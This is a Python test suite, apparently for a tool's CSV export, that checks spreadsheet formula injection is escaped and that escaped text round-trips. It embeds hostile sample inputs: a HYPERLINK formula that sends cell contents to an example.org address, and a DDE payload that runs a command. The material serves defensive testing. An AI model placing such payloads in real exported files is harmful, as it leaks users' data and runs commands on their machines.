"""What is written as CSV runs nowhere, and is read back as it was."""

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overlap.read.content import Document, Table
from overlap.read.formats.tables import read_csv
from overlap.text.cells import protect, unprotect, write_csv
from overlap.text.printing import printable
from tests.conftest import Run

RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
TEXT = st.text(st.sampled_from("'=+-@ab,;\"\n\r"), max_size=6)
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"see")'


@given(st.one_of(TEXT, st.text(max_size=5)))
def test_a_text_comes_back_and_begins_no_formula(text: str) -> None:
    assert unprotect(str(protect(text))) == text
    assert not str(protect(text)).startswith(RUN)


@given(st.lists(st.lists(st.one_of(TEXT, st.floats(allow_nan=False)), min_size=1, max_size=3), min_size=1, max_size=3))
def test_a_table_is_that_of_any_program_but_for_the_apostrophes(rows: list[list[str | float]]) -> None:
    read = list(csv.reader(io.StringIO(write_csv(rows), newline="")))
    assert [[unprotect(cell) for cell in row] for row in read] == [
        [printable(str(cell)) for cell in row] for row in rows
    ]
    assert list(csv.reader(io.StringIO(write_csv(rows, raw=True), newline=""))) == [list(map(str, row)) for row in rows]


@given(st.lists(TEXT.map(printable).map(str.strip).filter(bool), min_size=2, max_size=2))
def test_our_reader_gives_the_same_text(texts: list[str]) -> None:
    document = read_csv(write_csv([["id", "title"], texts]).encode(), "a.csv")
    assert isinstance(document, Document)
    (table,) = document.parts
    assert isinstance(table, Table)
    assert [*table.rows[1]] == texts


@pytest.mark.parametrize("command", ["ingest", "compare", "mandates"])
def test_formulas_are_made_harmless_unless_a_program_asks(overlap_command: Run, tmp_path: Path, command: str) -> None:
    item = {"id": "X-1", "title": f"{HOSTILE} smart parking", "scope": "+cmd|' /C calc'!A0"}
    (tmp_path / "a.json").write_text(json.dumps([item]))
    statement = {"id": "S-1", "text": f"{HOSTILE} smart parking"}
    (tmp_path / "m.json").write_text(json.dumps([statement]))
    given = {"ingest": ["a.json"], "compare": ["a.json", "a.json"], "mandates": ["m.json", "m.json"]}[command]
    for raw in ([], ["--raw-csv"]):
        done = overlap_command(command, *given, *raw, "-o", "out.csv")
        assert done.returncode == 0, done.stderr
        cells = [
            cell for row in csv.reader(io.StringIO((tmp_path / "out.csv").read_text(), newline="")) for cell in row
        ]
        assert any(cell.startswith("=HYPERLINK") for cell in cells) is bool(raw)
        assert any(cell.startswith("'=HYPERLINK") for cell in cells) is not bool(raw)
